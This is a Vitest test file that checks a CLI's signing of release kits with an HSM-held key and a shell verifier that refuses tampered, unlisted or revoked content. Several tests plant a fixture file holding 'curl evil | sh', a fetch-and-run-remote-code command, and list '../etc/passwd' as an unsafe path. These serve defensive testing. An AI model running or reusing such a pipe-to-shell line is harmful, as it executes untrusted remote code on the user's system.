import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  copyFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Pkcs11Module } from '../../native/pkcs11';
import { softhsmModulePath, writeSofthsmConfig, writeTokens } from '../support/fixtures/piv/softhsm';
import { openssl, OpensslCa } from '../support/release-pki';
import { repoRoot } from '../support/services';

/**
 * The signed release kit end to end: the release key generated on a SoftHSM2 token by the built CLI,
 * its request issued by a release CA (root and intermediate, `openssl ca`), the kit signed with
 * `enclave release sign`, and installer/release/verify-release.sh run by dash at the "receiving
 * site". Then every way a kit may be wrong, each refused naming the file.
 */
const work = mkdtempSync(join(tmpdir(), 'enclave-release-sign-'));
const modulePath = softhsmModulePath();
const token = { label: 'release-token', pin: '550132', soPin: '77001122' };
const verifier = join(repoRoot, 'installer', 'release', 'verify-release.sh');
const previousConf = process.env.SOFTHSM2_CONF;
let env: NodeJS.ProcessEnv;
let root: OpensslCa;
let intermediate: OpensslCa;
let signerCert: string;
const kit = join(work, 'kit');
/** The verifier's TMPDIR: it must be empty after every run (no temporary files left behind). */
const verifierTmp = join(work, 'verifier-tmp');

const KIT_FILES: Record<string, string> = {
  'app/app.asar': 'asar payload '.repeat(200),
  'app/app.asar.unpacked/node_modules/better-sqlite3/build/Release/better_sqlite3.node': '\x7fELF native module',
  'bin/enclave': '#!/bin/sh\nexec enclave "$@"\n',
  'sbom.cdx.json': '{"bomFormat":"CycloneDX","specVersion":"1.6","components":[]}\n',
  // As npm run release writes it: two-space JSON, the native modules' own versions nested inside.
  'release.json':
    JSON.stringify(
      {
        format: 'enclave-release/1',
        version: '0.3.0',
        commit: 'abc',
        nativeModules: [{ name: 'x', version: '9.9.9' }],
      },
      null,
      2,
    ) + '\n',
  'RELEASE-NOTES.md': '# Enclave 0.3.0\n',
};

function enclave(args: string[], pin?: string) {
  const result = spawnSync(process.execPath, [join(repoRoot, 'dist', 'node', 'cli.cjs'), ...args], {
    encoding: 'utf8',
    env: pin === undefined ? env : { ...env, ENCLAVE_PIN: pin },
    input: '',
    timeout: 60_000,
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

function verify(args: string[], options: { script?: string; cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
  const result = spawnSync('dash', [options.script ?? verifier, ...args], {
    encoding: 'utf8',
    cwd: options.cwd ?? work,
    env: { ...process.env, TMPDIR: verifierTmp, ...options.env },
    timeout: 60_000,
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const tokenArgs = (keyLabel = 'release-key') => [
  '--module',
  modulePath,
  '--token-label',
  token.label,
  '--key-label',
  keyLabel,
];

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((name) => statSync(join(dir, name)).isFile())
    .map((name) => relative(dir, join(dir, name)))
    .sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)));
}

/**
 * SHA384SUMS then SHA256SUMS, in the text sha256sum and `openssl dgst -r` write, sorted by path
 * bytewise. `keep384` keeps the SHA384SUMS there is (to test a broken one under a good SHA256SUMS).
 */
function writeSums(dir: string, options: { keep384?: boolean } = {}): void {
  if (!options.keep384) rmSync(join(dir, 'SHA384SUMS'), { force: true });
  rmSync(join(dir, 'SHA256SUMS'), { force: true });
  const sums = (hash: string, names: string[]) =>
    names
      .map(
        (name) =>
          `${createHash(hash)
            .update(readFileSync(join(dir, name)))
            .digest('hex')}  ${name}\n`,
      )
      .join('');
  const listed = filesUnder(dir).filter((name) => name !== 'SHA256SUMS.cms' && name !== 'SHA384SUMS');
  if (!options.keep384) writeFileSync(join(dir, 'SHA384SUMS'), sums('sha384', listed));
  writeFileSync(
    join(dir, 'SHA256SUMS'),
    sums(
      'sha256',
      filesUnder(dir).filter((name) => name !== 'SHA256SUMS.cms'),
    ),
  );
}

/** A fresh copy of the signed kit to break. */
function copyKit(name: string): string {
  const copy = join(work, name);
  rmSync(copy, { recursive: true, force: true });
  cpSync(kit, copy, { recursive: true });
  return copy;
}

const sign = (dir: string, certificate = signerCert, pin = token.pin) =>
  enclave(
    [
      'release',
      'sign',
      '--kit',
      dir,
      ...tokenArgs(),
      '--certificate',
      certificate,
      '--chain',
      intermediate.certificate,
    ],
    pin,
  );

/** Re-signs `dir`'s SHA256SUMS as it is with a software key, carrying `carry` (the intermediate unless given). */
function signWithSoftwareKey(dir: string, signer: { key: string; certificate: string }, carry?: string): void {
  openssl(
    [
      'cms',
      '-sign',
      '-binary',
      '-nosmimecap',
      '-md',
      'sha384',
      '-in',
      'SHA256SUMS',
      '-signer',
      signer.certificate,
      '-inkey',
      signer.key,
      '-certfile',
      carry ?? intermediate.certificate,
      '-outform',
      'DER',
      '-out',
      'SHA256SUMS.cms',
    ],
    { cwd: dir },
  );
}

const failures = (stdout: string) => stdout.split('\n').filter((line) => line.startsWith('FAIL  '));

beforeAll(async () => {
  const conf = writeSofthsmConfig(join(work, 'softhsm'));
  process.env.SOFTHSM2_CONF = conf;
  await writeTokens(modulePath, [{ ...token, objects: [] }]);
  env = { ...process.env, SOFTHSM2_CONF: conf, ENCLAVE_DATA_DIR: join(work, 'no-data-dir') };
  delete env.ENCLAVE_PIN;
  root = OpensslCa.root(join(work, 'root-ca'), '/CN=Enclave Release CA');
  intermediate = root.intermediate(join(work, 'intermediate-ca'), '/CN=Enclave Release Intermediate');
  for (const [name, text] of Object.entries(KIT_FILES)) {
    mkdirSync(dirname(join(kit, name)), { recursive: true });
    writeFileSync(join(kit, name), text);
  }
  copyFileSync(verifier, join(kit, 'verify-release.sh'));
  mkdirSync(verifierTmp);
});

afterAll(() => {
  if (previousConf === undefined) delete process.env.SOFTHSM2_CONF;
  else process.env.SOFTHSM2_CONF = previousConf;
  rmSync(work, { recursive: true, force: true });
});

/** The kit's CRL: the release CA's and the intermediate's, as the release engineer carries them. */
function writeKitCrl(dir: string, options: { expired?: boolean } = {}): void {
  const rootCrl = readFileSync(root.crl(join(work, 'root.crl')));
  const intermediateCrl = readFileSync(intermediate.crl(join(work, 'intermediate.crl'), options));
  writeFileSync(join(dir, 'release-ca.crl'), Buffer.concat([rootCrl, intermediateCrl]));
}

describe('enclave release key and sign, verify-release.sh (SoftHSM2, openssl CA, dash)', () => {
  it('generates the release key on the token and writes a request signed there; the CA issues the certificate', () => {
    const csr = join(work, 'release.csr');
    const made = enclave(
      ['release', 'key', ...tokenArgs(), '--subject', 'CN=Enclave release 2026, O=Example', '--csr-out', csr],
      token.pin,
    );
    expect(made.stderr).toBe('');
    expect(made.code).toBe(0);
    expect(made.stdout).toContain(
      'Generated ECDSA P-384 key "release-key" on token "release-token" (sensitive, not extractable).',
    );
    expect(made.stdout + made.stderr).not.toContain(token.pin);
    const checked = spawnSync('openssl', ['req', '-in', csr, '-noout', '-verify', '-subject', '-nameopt', 'RFC2253'], {
      encoding: 'utf8',
    });
    expect(checked.status).toBe(0);
    expect(checked.stdout).toContain('subject=O=Example,CN=Enclave release 2026');
    expect(openssl(['req', '-in', csr, '-noout', '-text'])).toContain('NIST CURVE: P-384');
    signerCert = intermediate.issue(csr, join(work, 'release-signer.pem'), 'codeSigning');

    // On the token: P-384, may sign, sensitive, not extractable; its value cannot be read.
    const module = Pkcs11Module.load(modulePath);
    try {
      const slot = module.slots().find((s) => s.token?.label === token.label)!;
      const session = module.openSession(slot.handle);
      session.login(token.pin);
      const [id] = session.idsWithLabel('privateKey', 'release-key');
      const key = session.privateKey(id!)!;
      expect(key).toMatchObject({ type: 'ec', curve: 'P-384', canSign: true });
      const P = createRequire(import.meta.url)('pkcs11js') as typeof import('pkcs11js');
      expect(session.attribute(key.handle, P.CKA_SENSITIVE)?.[0]).toBe(1);
      expect(session.attribute(key.handle, P.CKA_EXTRACTABLE)?.[0]).toBe(0);
      expect(session.attribute(key.handle, P.CKA_VALUE)).toBeNull();
      session.logout();
      session.close();
    } finally {
      module.close();
    }

    const again = enclave(
      ['release', 'key', ...tokenArgs(), '--subject', 'CN=x', '--csr-out', join(work, 'again.csr')],
      token.pin,
    );
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/already has a key labelled "release-key"/);
    const badSubject = enclave(
      ['release', 'key', ...tokenArgs('other'), '--subject', 'CN=a+b', '--csr-out', join(work, 'bad.csr')],
      token.pin,
    );
    expect(badSubject.code).toBe(2);
    expect(badSubject.stderr).toMatch(/--subject: the CN value is 1 to 64 characters without \+/);
  });

  it('signs the kit; dash verify-release.sh, run from elsewhere, prints every check ok and exits 0', () => {
    writeKitCrl(kit);
    writeSums(kit);
    const signed = sign(kit);
    expect(signed.stderr).toBe('');
    expect(signed.code).toBe(0);
    expect(signed.stdout).toContain('Signed SHA256SUMS (9 files listed) as CN=Enclave release 2026, O=Example.');
    // The receiving site: the script in the kit, run from another folder, the CA given by the site.
    const result = verify(['--ca', root.certificate], { script: join(kit, 'verify-release.sh'), cwd: tmpdir() });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^ok {4}tools: OpenSSL 3\.\d+\.\d+, sha256sum/);
    expect(lines[1]).toMatch(/^ok {4}release CA: CN=Enclave Release CA sha256 [0-9a-f]{64}$/);
    expect(lines[2]).toMatch(
      /^ok {4}CRL: release-ca\.crl signed by the release CA, next update .* GMT; signed by CN=Enclave Release Intermediate, next update .* GMT$/,
    );
    expect(lines[3]).toBe(
      'ok    signature: SHA256SUMS.cms over SHA256SUMS by O=Example,CN=Enclave release 2026 (ECDSA P-384, SHA-384)',
    );
    expect(lines[4]).toBe('ok    certificate: codeSigning, chains to the release CA, not revoked');
    const listed = filesUnder(kit).filter((name) => !name.startsWith('SHA256SUMS'));
    for (const name of listed) expect(lines).toContain(`ok    checksum: ${name}`);
    expect(lines).toContain('ok    sha384: 8 files match SHA384SUMS (openssl dgst -sha384)');
    expect(lines).toContain('ok    unlisted: none');
    const sbom = createHash('sha256').update(KIT_FILES['sbom.cdx.json']!).digest('hex');
    expect(lines).toContain(`ok    sbom: sbom.cdx.json sha256 ${sbom} matches SHA256SUMS and SHA384SUMS`);
    expect(lines.at(-1)).toMatch(
      /^verified: Enclave 0\.3\.0: 9 files, signed by O=Example,CN=Enclave release 2026, release CA sha256 [0-9a-f]{64}$/,
    );
    expect(lines.filter((line) => !line.startsWith('ok    ')).length).toBe(1);
    // The signature is also what plain openssl accepts (CRLs loaded with the trust anchor).
    writeFileSync(
      join(work, 'trust.pem'),
      Buffer.concat([readFileSync(root.certificate), readFileSync(join(kit, 'release-ca.crl'))]),
    );
    expect(() =>
      openssl(
        [
          'cms',
          '-verify',
          '-binary',
          '-inform',
          'DER',
          '-in',
          'SHA256SUMS.cms',
          '-content',
          'SHA256SUMS',
          '-CAfile',
          join(work, 'trust.pem'),
          '-crl_check_all',
          '-purpose',
          'any',
          '-out',
          '/dev/null',
        ],
        { cwd: kit },
      ),
    ).not.toThrow();
  });

  it('fails naming the file when one byte of any file in the kit is changed', () => {
    for (const name of filesUnder(kit)) {
      const copy = copyKit('flipped');
      const bytes = readFileSync(join(copy, name));
      const at = Math.floor(bytes.length / 2);
      bytes[at] = bytes[at]! ^ 0x01;
      writeFileSync(join(copy, name), bytes);
      const result = verify(['--kit', copy, '--ca', root.certificate]);
      expect(result.code, name).toBe(1);
      expect(result.stdout, name).toMatch(/\nFAILED: \d+ checks\n$/);
      expect(result.stdout, name).not.toContain('verified:');
      const named = failures(result.stdout).filter((line) => line.includes(`: ${name}: `));
      expect(named.length, `${name}\n${result.stdout}`).toBeGreaterThan(0);
    }
    expect(readdirSync(verifierTmp)).toEqual([]);
  });

  it('fails on a valid signature by another CA, and by a key of the same CA without codeSigning', () => {
    const otherRoot = OpensslCa.root(join(work, 'other-ca'), '/CN=Someone Else CA');
    const other = otherRoot.issueSoftwareKey(work, 'other', '/CN=Someone else', 'codeSigning');
    const email = intermediate.issueSoftwareKey(work, 'email', '/CN=Enclave mail signer', 'emailOnly');
    for (const [case_, signer, reason] of [
      ['other CA', other, /^FAIL {2}certificate: SHA256SUMS\.cms: unable to get local issuer certificate/m],
      [
        'no codeSigning',
        email,
        /^FAIL {2}certificate: SHA256SUMS\.cms: the signer certificate \(CN=Enclave mail signer\) does not allow code signing/m,
      ],
    ] as const) {
      const copy = copyKit('resigned');
      signWithSoftwareKey(copy, signer);
      const result = verify(['--kit', copy, '--ca', root.certificate]);
      expect(result.code, case_).toBe(1);
      expect(result.stdout, case_).toMatch(/^ok {4}signature: /m);
      expect(result.stdout, case_).toMatch(reason);
      expect(result.stdout, case_).toMatch(/\nFAILED: 1 checks\n$/);
    }
  });

  it('fails when the signer is revoked, the CRL has expired or is absent, a file is unlisted or a listed file is missing', () => {
    // A newer CRL the site received, revoking the signer.
    intermediate.revoke(signerCert);
    const revokedCrl = join(work, 'revoked.crl');
    writeFileSync(
      revokedCrl,
      Buffer.concat([readFileSync(root.crl(join(work, 'r.crl'))), readFileSync(intermediate.crl(join(work, 'i.crl')))]),
    );
    const revoked = verify(['--kit', kit, '--ca', root.certificate, '--crl', revokedCrl]);
    expect(revoked.code).toBe(1);
    expect(failures(revoked.stdout)).toEqual([
      'FAIL  certificate: SHA256SUMS.cms: the signer certificate (O=Example,CN=Enclave release 2026) is revoked by revoked.crl',
    ]);

    // An expired CRL carried in the kit (and signed over): refused, naming it.
    const expired = copyKit('expired');
    writeKitCrl(expired, { expired: true });
    writeSums(expired);
    expect(sign(expired).code).toBe(0);
    const stale = verify(['--kit', expired, '--ca', root.certificate]);
    expect(stale.code).toBe(1);
    expect(failures(stale.stdout)[0]).toMatch(
      /^FAIL {2}CRL: release-ca\.crl: the CRL of CN=Enclave Release Intermediate has expired \(next update was Feb {2}1 00:00:00 2020 GMT\)$/,
    );

    // No CRL at all: refused, unless the site says --no-crl (and is told revocation was not checked).
    const noCrl = copyKit('no-crl');
    rmSync(join(noCrl, 'release-ca.crl'));
    writeSums(noCrl);
    expect(sign(noCrl).code).toBe(0);
    const unchecked = verify(['--kit', noCrl, '--ca', root.certificate]);
    expect(unchecked.code).toBe(1);
    expect(failures(unchecked.stdout)[0]).toBe(
      'FAIL  CRL: release-ca.crl: not in the kit and no --crl given (--no-crl verifies without revocation)',
    );
    const accepted = verify(['--kit', noCrl, '--ca', root.certificate, '--no-crl']);
    expect(accepted.code).toBe(0);
    expect(accepted.stdout).toContain('ok    CRL: none (--no-crl): revocation NOT checked\n');
    expect(accepted.stdout).toContain(
      'ok    certificate: codeSigning, chains to the release CA (revocation not checked)\n',
    );

    // The site's CA file must be the one certificate whose fingerprint is shown: all of it would be trusted.
    const twoCas = join(work, 'two-cas.pem');
    writeFileSync(twoCas, Buffer.concat([readFileSync(root.certificate), readFileSync(intermediate.certificate)]));
    const ambiguous = verify(['--kit', kit, '--ca', twoCas]);
    expect(ambiguous.code).toBe(1);
    expect(failures(ambiguous.stdout)[0]).toBe('FAIL  release CA: two-cas.pem: must hold exactly one certificate');

    const extra = copyKit('extra');
    writeFileSync(join(extra, 'app', 'payload.sh'), 'curl evil | sh\n');
    expect(failures(verify(['--kit', extra, '--ca', root.certificate]).stdout)).toEqual([
      'FAIL  unlisted: app/payload.sh: in the kit but not in SHA256SUMS',
    ]);

    const missing = copyKit('missing');
    rmSync(join(missing, 'bin', 'enclave'));
    expect(failures(verify(['--kit', missing, '--ca', root.certificate]).stdout)).toEqual([
      'FAIL  checksum: bin/enclave: listed in SHA256SUMS but missing',
      'FAIL  sha384: bin/enclave: missing or not a regular file',
    ]);
  });

  it('sign and the verifier both refuse unsafe or malformed lines in SHA256SUMS', () => {
    for (const [line, reason] of [
      [`${'0'.repeat(64)}  ../etc/passwd`, 'line 1 names an unsafe path'],
      [`${'0'.repeat(64)}  /etc/passwd`, 'line 1 is not "<sha256 hex>  <relative path>"'],
      [`${'0'.repeat(64)}  app/a b`, 'line 1 is not "<sha256 hex>  <relative path>"'],
      [`${'0'.repeat(64)}  SHA256SUMS.cms`, 'line 1 lists SHA256SUMS.cms, which cannot list itself'],
    ]) {
      const copy = copyKit('unsafe');
      writeFileSync(join(copy, 'SHA256SUMS'), `${line}\n${readFileSync(join(copy, 'SHA256SUMS'), 'utf8')}`);
      const signed = sign(copy);
      expect(signed.code).toBe(1);
      expect(signed.stderr).toContain(`SHA256SUMS is not a checksum list the receiving site can verify: ${reason}.`);
      const result = verify(['--kit', copy, '--ca', root.certificate]);
      expect(result.code).toBe(1);
      expect(result.stdout).toContain(`FAIL  checksum: SHA256SUMS: malformed: ${reason}`);
    }
  });

  it('sign refuses a certificate for another key, one without codeSigning, a wrong PIN, and a kit without SHA256SUMS', () => {
    const before = readFileSync(join(kit, 'SHA256SUMS.cms'));
    const other = intermediate.issueSoftwareKey(work, 'not-token', '/CN=Not the token key', 'codeSigning');
    const wrongKey = sign(kit, other.certificate);
    expect(wrongKey.code).toBe(1);
    expect(wrongKey.stderr).toMatch(
      /^enclave: The certificate \(CN=Not the token key\) is not for the key on the token: its public key differs\. Nothing was signed\.\n$/,
    );

    const noCodeSigning = intermediate.issue(join(work, 'release.csr'), join(work, 'release-email.pem'), 'emailOnly');
    const refusedEku = sign(kit, noCodeSigning);
    expect(refusedEku.code).toBe(1);
    expect(refusedEku.stderr).toMatch(
      /does not allow code signing \(no codeSigning extended key usage\); a receiving site would refuse the signature\. Nothing was signed\./,
    );

    const wrongPin = sign(kit, signerCert, '000000');
    expect(wrongPin.code).toBe(1);
    expect(wrongPin.stderr).toMatch(/PIN is incorrect/);
    expect(wrongPin.stderr).not.toContain('000000');
    expect(readFileSync(join(kit, 'SHA256SUMS.cms')).equals(before)).toBe(true);

    const empty = join(work, 'empty-kit');
    mkdirSync(empty);
    const noSums = sign(empty);
    expect(noSums.code).toBe(2);
    expect(noSums.stderr).toMatch(/The checksum list .*SHA256SUMS does not exist\./);
  });

  it("trusts only the site's release CA: a root in the machine's default store (SSL_CERT_DIR, SSL_CERT_FILE) is not", () => {
    // A code-signing certificate from some CA the machine trusts for TLS, that CA carried in the
    // signature and its CRL in the kit: openssl would accept it unless told to trust only --ca.
    const system = OpensslCa.root(join(work, 'system-ca'), '/CN=Some System Root');
    const signer = system.issueSoftwareKey(work, 'system-signer', '/CN=Someone with a commercial cert', 'codeSigning');
    const store = join(work, 'system-store');
    mkdirSync(store);
    const hash = openssl(['x509', '-in', system.certificate, '-noout', '-hash']).trim();
    copyFileSync(system.certificate, join(store, `${hash}.0`));
    const copy = copyKit('system-root');
    copyFileSync(system.crl(join(work, 'system.crl')), join(copy, 'release-ca.crl'));
    writeSums(copy);
    signWithSoftwareKey(copy, signer, system.certificate);
    const result = verify(['--kit', copy, '--ca', root.certificate], {
      env: { SSL_CERT_DIR: store, SSL_CERT_FILE: system.certificate },
    });
    expect(result.code, result.stdout).toBe(1);
    expect(result.stdout).not.toContain('signed by the release CA');
    expect(failures(result.stdout)).toEqual([
      'FAIL  certificate: SHA256SUMS.cms: self-signed certificate in certificate chain (depth 1)',
    ]);
  });

  it('refuses a CA file with a second certificate under another PEM label (X509 CERTIFICATE, TRUSTED CERTIFICATE)', () => {
    for (const label of ['X509 CERTIFICATE', 'TRUSTED CERTIFICATE']) {
      const file = join(work, `ca-plus-${label.replace(' ', '-')}.pem`);
      const second = readFileSync(intermediate.certificate, 'utf8').replaceAll('CERTIFICATE-----', `${label}-----`);
      writeFileSync(file, readFileSync(root.certificate, 'utf8') + second);
      const result = verify(['--kit', kit, '--ca', file]);
      expect(result.code, label).toBe(1);
      expect(failures(result.stdout)[0], label).toBe(
        `FAIL  release CA: ${file.split('/').at(-1)}: must hold exactly one certificate`,
      );
    }
  });

  it('fails on a folder in the kit that SHA256SUMS does not account for, empty or unreadable', () => {
    const empty = copyKit('empty-folder');
    mkdirSync(join(empty, 'app', 'plugins'));
    expect(failures(verify(['--kit', empty, '--ca', root.certificate]).stdout)).toEqual([
      'FAIL  unlisted: app/plugins: a folder in the kit that holds no file SHA256SUMS lists',
    ]);

    // A folder the site's (non-root) user cannot read hides what is in it: the check must not pass.
    // The tests run as root, for whom mode 000 hides nothing, so the verifier runs as nobody.
    const nobody = spawnSync('id', ['-u', 'nobody']).status === 0;
    const setpriv = spawnSync('setpriv', ['--version']).status === 0;
    if (!nobody || !setpriv || process.getuid?.() !== 0) {
      // Without user nobody, setpriv, or root to switch to it, an unreadable folder cannot be made here.
      return;
    }
    const shared = mkdtempSync(join(tmpdir(), 'enclave-release-nobody-'));
    try {
      const hiddenKit = join(shared, 'kit');
      cpSync(kit, hiddenKit, { recursive: true });
      mkdirSync(join(hiddenKit, 'hidden'));
      writeFileSync(join(hiddenKit, 'hidden', 'payload.sh'), 'curl evil | sh\n');
      copyFileSync(root.certificate, join(shared, 'release-ca.pem'));
      copyFileSync(verifier, join(shared, 'verify-release.sh'));
      mkdirSync(join(shared, 'tmp'));
      spawnSync('chmod', ['-R', 'a+rX', shared]);
      spawnSync('chmod', ['a+rwx', join(shared, 'tmp')]);
      spawnSync('chmod', ['000', join(hiddenKit, 'hidden')]);
      const asNobody = spawnSync(
        'setpriv',
        [
          '--reuid=nobody',
          '--regid=nogroup',
          '--clear-groups',
          'dash',
          join(shared, 'verify-release.sh'),
          '--kit',
          hiddenKit,
          '--ca',
          join(shared, 'release-ca.pem'),
        ],
        {
          encoding: 'utf8',
          cwd: shared,
          env: { PATH: process.env.PATH, TMPDIR: join(shared, 'tmp') },
          timeout: 60_000,
        },
      );
      expect(asNobody.status, asNobody.stdout + asNobody.stderr).toBe(1);
      expect(failures(asNobody.stdout)).toContainEqual(
        expect.stringMatching(
          /^FAIL {2}unlisted: \.: cannot read every folder of the kit \(.*hidden.*Permission denied\)$/,
        ),
      );
      expect(asNobody.stdout).not.toContain('ok    unlisted');
    } finally {
      spawnSync('chmod', ['700', join(shared, 'kit', 'hidden')]);
      rmSync(shared, { recursive: true, force: true });
    }
  });

  it('refuses a signer whose only extended key usage merely reads "Code Signing", a P-256 key, and a CA certificate', () => {
    const msCodeInd = intermediate.issueSoftwareKey(work, 'ms', '/CN=Microsoft style signer', 'msCodeIndOnly');
    const p256 = intermediate.issueSoftwareKey(work, 'p256', '/CN=NIST CURVE: P-384', 'codeSigning', 'P-256');
    const caLeaf = intermediate.issueSoftwareKey(work, 'ca-leaf', '/CN=A CA that signs', 'caCodeSigning');
    for (const [case_, signer, reason] of [
      [
        'msCodeInd only',
        msCodeInd,
        'FAIL  certificate: SHA256SUMS.cms: the signer certificate (CN=Microsoft style signer) does not allow code signing (no codeSigning extended key usage)',
      ],
      ['P-256 key', p256, 'FAIL  signature: SHA256SUMS.cms: the signer key is not ECDSA P-384'],
      [
        'CA:TRUE leaf',
        caLeaf,
        'FAIL  certificate: SHA256SUMS.cms: the signer certificate (CN=A CA that signs) is a CA certificate (basicConstraints CA:TRUE), not a signer',
      ],
    ] as const) {
      const copy = copyKit('leaf');
      signWithSoftwareKey(copy, signer);
      const result = verify(['--kit', copy, '--ca', root.certificate]);
      expect(result.code, case_).toBe(1);
      expect(failures(result.stdout)[0], case_).toBe(reason);
    }
  });

  it('never says ok for what it did not check: no CRL, or a sums file whose last line has no newline', () => {
    const noCrl = copyKit('no-crl-again');
    rmSync(join(noCrl, 'release-ca.crl'));
    writeSums(noCrl);
    expect(sign(noCrl).code).toBe(0);
    const unchecked = verify(['--kit', noCrl, '--ca', root.certificate]);
    expect(unchecked.code).toBe(1);
    expect(unchecked.stdout).not.toMatch(/^ok {4}certificate:/m);
    expect(failures(unchecked.stdout)).toContain(
      'FAIL  certificate: SHA256SUMS.cms: revocation cannot be checked: no CRL (give --crl, or --no-crl)',
    );

    // SHA384SUMS covered by a good signature, its last line unterminated: a `while read` skips it.
    const short384 = copyKit('short-384');
    const text384 = readFileSync(join(short384, 'SHA384SUMS'), 'utf8');
    writeFileSync(join(short384, 'SHA384SUMS'), text384.slice(0, -1));
    writeSums(short384, { keep384: true });
    const signed = sign(short384);
    expect(signed.stderr).toBe('');
    const result384 = verify(['--kit', short384, '--ca', root.certificate]);
    expect(result384.code).toBe(1);
    expect(result384.stdout).not.toMatch(/^ok {4}sha384:/m);
    expect(failures(result384.stdout)).toEqual([
      'FAIL  sha384: SHA384SUMS: malformed: the last line does not end with a newline',
    ]);

    // The same for SHA256SUMS (which enclave release sign refuses; signed here with openssl).
    const short256 = copyKit('short-256');
    const text256 = readFileSync(join(short256, 'SHA256SUMS'), 'utf8');
    writeFileSync(join(short256, 'SHA256SUMS'), text256.slice(0, -1));
    const software = intermediate.issueSoftwareKey(work, 'soft', '/CN=Software signer', 'codeSigning');
    signWithSoftwareKey(short256, software);
    const result256 = verify(['--kit', short256, '--ca', root.certificate]);
    expect(result256.code).toBe(1);
    expect(failures(result256.stdout)[0]).toBe(
      'FAIL  checksum: SHA256SUMS: malformed: the last line does not end with a newline',
    );
  });

  it('sign refuses a kit whose files do not match SHA256SUMS, an unlisted file or folder, and a path listed twice', () => {
    const cases: [string, (dir: string) => void, string][] = [
      [
        'changed file',
        (dir) => writeFileSync(join(dir, 'app', 'app.asar'), 'altered in transit'),
        'app/app.asar: its SHA-256 does not match SHA256SUMS',
      ],
      ['missing file', (dir) => rmSync(join(dir, 'bin', 'enclave')), 'bin/enclave: listed in SHA256SUMS but missing'],
      [
        'unlisted file',
        (dir) => writeFileSync(join(dir, 'app', 'payload.sh'), 'curl evil | sh\n'),
        'app/payload.sh: in the kit but not in SHA256SUMS',
      ],
      [
        'unlisted folder',
        (dir) => mkdirSync(join(dir, 'app', 'plugins')),
        'app/plugins: a folder in the kit that holds no file SHA256SUMS lists',
      ],
      [
        'listed twice',
        (dir) => {
          const sums = readFileSync(join(dir, 'SHA256SUMS'), 'utf8');
          writeFileSync(join(dir, 'SHA256SUMS'), sums + sums.split('\n')[0] + '\n');
        },
        'line 10 lists RELEASE-NOTES.md twice',
      ],
    ];
    for (const [case_, damage, reason] of cases) {
      const copy = copyKit('unsigned');
      damage(copy);
      const before = readFileSync(join(copy, 'SHA256SUMS.cms'));
      const signed = sign(copy);
      expect(signed.code, case_).toBe(1);
      expect(signed.stderr, case_).toContain(reason);
      expect(signed.stderr, case_).toContain('Nothing was signed.');
      expect(readFileSync(join(copy, 'SHA256SUMS.cms')).equals(before), case_).toBe(true);
    }
  });
});
